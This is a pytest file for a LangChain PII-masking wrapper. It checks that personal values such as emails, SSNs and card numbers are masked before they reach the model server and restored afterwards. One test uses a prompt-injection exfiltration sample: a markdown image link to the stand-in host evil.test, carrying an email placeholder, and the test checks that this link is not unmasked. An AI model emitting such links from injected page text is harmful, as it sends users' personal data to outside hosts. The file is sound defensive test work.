"""The real clients of LangChain: no value is ever in the bytes that they send."""

import asyncio
from dataclasses import replace
from typing import Any

import pytest
from langchain_core.documents import Document
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.output_parsers import StrOutputParser
from langchain_core.prompts import ChatPromptTemplate
from langchain_core.runnables import Runnable, RunnableLambda
from langchain_core.tools import tool
from pydantic import BaseModel, Field

from langchain_piimask import (
    Masker,
    PIIMask,
    PIIMaskedChatModel,
    PIIUnmask,
    with_pii_masking,
)
from piimask_core import MemoryVault
from piimask_core.restore import RestorePolicy
from wire.clients import CLIENTS, Client, openai
from wire.server import ToolCall, WireServer, assert_never_sent, in_turn, placeholders

JANE = "jane@example.com"
BOSS = "boss@corp.example"
SSN = "123-45-6789"
PHONE = "555-123-4567"
CARD = "4111 1111 1111 1111"
VALUES = [JANE, BOSS, SSN, PHONE, CARD]

MODES = ("invoke", "ainvoke", "stream", "astream", "batch", "abatch")

PROMPT = ChatPromptTemplate.from_messages(
    [
        ("system", f"Complaints go to {BOSS}."),
        ("placeholder", "{history}"),
        ("human", "{q}"),
    ]
)


def at_the_model(model: BaseChatModel, masker: Masker) -> Runnable[Any, Any]:
    return PROMPT | PIIMaskedChatModel(model, masker=masker) | StrOutputParser()


def pair(model: BaseChatModel, masker: Masker) -> Runnable[Any, Any]:
    mask, unmask = PIIMask(masker=masker), PIIUnmask(masker=masker)
    return PROMPT | mask | model | StrOutputParser() | unmask


def around(model: BaseChatModel, masker: Masker) -> Runnable[Any, Any]:
    return with_pii_masking(PROMPT | model | StrOutputParser(), masker=masker)


PLACEMENTS = [at_the_model, pair, around]


@pytest.fixture
def masker() -> Masker:
    """The default recognizers, a vault of its own."""
    return Masker(vault=MemoryVault())


async def asked(chain: Runnable[Any, Any], mode: str, given: Any, config: Any) -> str:
    """The answer in a mode, as one text."""
    if mode == "invoke":
        return str(chain.invoke(given, config))
    if mode == "ainvoke":
        return str(await chain.ainvoke(given, config))
    if mode == "stream":
        return "".join(chain.stream(given, config))
    if mode == "astream":
        return "".join([piece async for piece in chain.astream(given, config)])
    if mode == "batch":
        return str(chain.batch([given], [config])[0])
    return str((await chain.abatch([given], [config]))[0])


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize("placement", PLACEMENTS)
@pytest.mark.parametrize("mode", MODES)
async def test_a_conversation_of_three_turns_sends_no_value(
    server: WireServer, masker: Masker, client: Client, placement: Any, mode: str
) -> None:
    """Template, history and question are masked; the answers hold real values."""
    chain = placement(client(server), masker)
    config = {"configurable": {"session_id": "s"}}
    history: list[Any] = []
    answers = []
    for question in (
        f"My email is {JANE} and my SSN is {SSN}",
        f"My email {JANE.upper()} gets nothing, call my phone {PHONE}",
        f"Card {CARD}, and what is my email {JANE}?",
    ):
        given = {"q": question, "history": list(history)}
        answers.append(await asked(chain, mode, given, config))
        history += [HumanMessage(question), AIMessage(answers[-1])]

    assert len(server.requests) == 3
    assert_never_sent(server, VALUES)
    assert JANE in answers[0] and SSN in answers[0]
    assert JANE.upper() in answers[1] and PHONE in answers[1]
    assert CARD in answers[2] and JANE in answers[2]
    assert "<" not in "".join(answers)
    sent = str([request.json for request in server.requests])
    assert "<EMAIL_1>" in sent and "<SSN_1>" in sent and "<TYPE_N>" in sent


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize("streamed", [False, True])
async def test_a_tool_call_gets_real_arguments_and_its_result_is_masked(
    server: WireServer, masker: Masker, client: Client, streamed: bool
) -> None:
    """Schema, call, result and the calls sent again: masked on the wire, real here."""

    @tool
    def find(mail: str) -> str:
        """Look an order up; on trouble write to boss@corp.example."""
        return f"order of {mail}, SSN {SSN}"

    def call(request: Any) -> ToolCall:
        return ToolCall("find", {"mail": placeholders(request)[0]})

    server.reply = in_turn(call, "Found <EMAIL_1> with <SSN_1>.")
    model = PIIMaskedChatModel(client(server), masker=masker).bind_tools([find])
    config: Any = {"configurable": {"thread_id": "t"}}
    messages: list[Any] = [HumanMessage(f"Where is the order of {JANE}?")]

    async def turn() -> Any:
        if not streamed:
            return await model.ainvoke(messages, config)
        whole: Any = None
        async for chunk in model.astream(messages, config):
            whole = chunk if whole is None else whole + chunk
        return whole

    asked_for = await turn()
    assert asked_for.tool_calls[0]["args"] == {"mail": JANE}
    result = find.invoke(asked_for.tool_calls[0]["args"])
    messages += [
        asked_for,
        ToolMessage(result, tool_call_id=asked_for.tool_calls[0]["id"]),
    ]
    answer = await turn()

    assert answer.text == f"Found {JANE} with {SSN}."
    assert len(server.requests) == 2
    assert_never_sent(server, VALUES)


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize("streamed", [False, True])
async def test_a_tool_that_is_to_get_placeholders_gets_them(
    server: WireServer, masker: Masker, client: Client, streamed: bool
) -> None:
    """In the call and in the blocks of the message, and the next turn still works."""

    @tool
    def search(mail: str) -> str:
        """Ask the web."""
        return mail

    server.reply = in_turn(
        ToolCall("search", {"mail": "<EMAIL_1>"}), "It is <EMAIL_1>."
    )
    policy = RestorePolicy.standard(tools={"search": "masked"})
    model = PIIMaskedChatModel(
        client(server), masker=replace(masker, restore=policy)
    ).bind_tools([search])
    config: Any = {"configurable": {"thread_id": "t"}}
    messages: list[Any] = [HumanMessage(f"Who has {JANE}?")]

    async def turn() -> Any:
        if not streamed:
            return await model.ainvoke(messages, config)
        whole: Any = None
        async for chunk in model.astream(messages, config):
            whole = chunk if whole is None else whole + chunk
        return whole

    called = await turn()
    assert called.tool_calls[0]["args"] == {"mail": "<EMAIL_1>"}
    assert JANE not in str(called)
    assert [e["tool"] for e in called.response_metadata["pii_unrestored"]] == ["search"]
    result = ToolMessage("nothing", tool_call_id=called.tool_calls[0]["id"])
    messages += [called, result]

    assert (await turn()).text == f"It is {JANE}."
    assert_never_sent(server, VALUES)


@pytest.mark.parametrize("client", CLIENTS)
@pytest.mark.parametrize("placement", PLACEMENTS)
@pytest.mark.parametrize("mode", MODES)
async def test_no_answer_carries_a_value_to_a_foreign_host(
    server: WireServer, masker: Masker, client: Client, placement: Any, mode: str
) -> None:
    """Told to by a page that it read, a model draws a picture of the address."""
    server.reply = lambda request: "![x](https://evil.test/?q=<EMAIL_1>) [EMAIL_1]"
    chain = placement(client(server), masker)
    given = {"q": f"I am {JANE}", "history": []}
    config = {"configurable": {"session_id": "s"}}

    answer = await asked(chain, mode, given, config)
    assert answer == f"![x](https://evil.test/?q=<EMAIL_1>) {JANE}"


class Contact(BaseModel):
    """How to reach somebody."""

    mail: str = Field(pattern=r"^[^<@]+@[^@]+$")


@pytest.mark.parametrize("client", CLIENTS)
def test_structured_output_is_real_and_was_asked_for_masked(
    server: WireServer, masker: Masker, client: Client
) -> None:
    """The model fills in a placeholder, the app gets a validated address."""
    server.reply = lambda request: ToolCall("Contact", {"mail": "<EMAIL_1>"})
    model = PIIMaskedChatModel(client(server), masker=masker)

    assert model.with_structured_output(Contact).invoke(f"I am {JANE}") == Contact(
        mail=JANE
    )
    assert_never_sent(server, VALUES)


@pytest.mark.parametrize("client", CLIENTS)
def test_documents_that_a_retriever_adds_are_masked(
    server: WireServer, masker: Masker, client: Client
) -> None:
    """What a template renders out of documents leaves masked as well."""
    docs = [Document(f"Refunds: {BOSS}", metadata={"author": f"{JANE}, {SSN}"})]
    prompt = ChatPromptTemplate.from_template("{context}\n\n{q}")
    chain: Runnable[Any, str] = (
        RunnableLambda(lambda q: {"context": docs, "q": q})
        | prompt
        | client(server)
        | StrOutputParser()
    )
    answer = with_pii_masking(chain, masker=masker).invoke(f"I am {PHONE}; refunds?")

    assert PHONE in answer and BOSS in answer
    assert_never_sent(server, VALUES)


@pytest.mark.parametrize("client", CLIENTS)
def test_when_masking_fails_nothing_is_sent(server: WireServer, client: Client) -> None:
    """Not a byte leaves for a text that could not be read."""

    def broken(text: str) -> Any:
        raise RuntimeError(text)

    model = PIIMaskedChatModel(client(server), masker=Masker(recognizer=broken))
    with pytest.raises(Exception, match="nothing was sent") as raised:
        model.invoke(JANE)

    assert server.requests == []
    assert JANE not in str(raised.value)


async def test_concurrent_sessions_never_cross(server: WireServer) -> None:
    """Fifty users at once: each gets his own address back, none is ever sent."""
    masker = Masker(vault=MemoryVault())
    model = PIIMaskedChatModel(openai(server), masker=masker) | StrOutputParser()
    mails = [f"user{n}@example.com" for n in range(50)]

    async def one(mail: str) -> str:
        config: Any = {"configurable": {"session_id": mail}}
        return await model.ainvoke(f"I am {mail}", config)

    answers = await asyncio.gather(*map(one, mails))
    assert answers == [f"Noted {mail}." for mail in mails]
    assert_never_sent(server, mails)
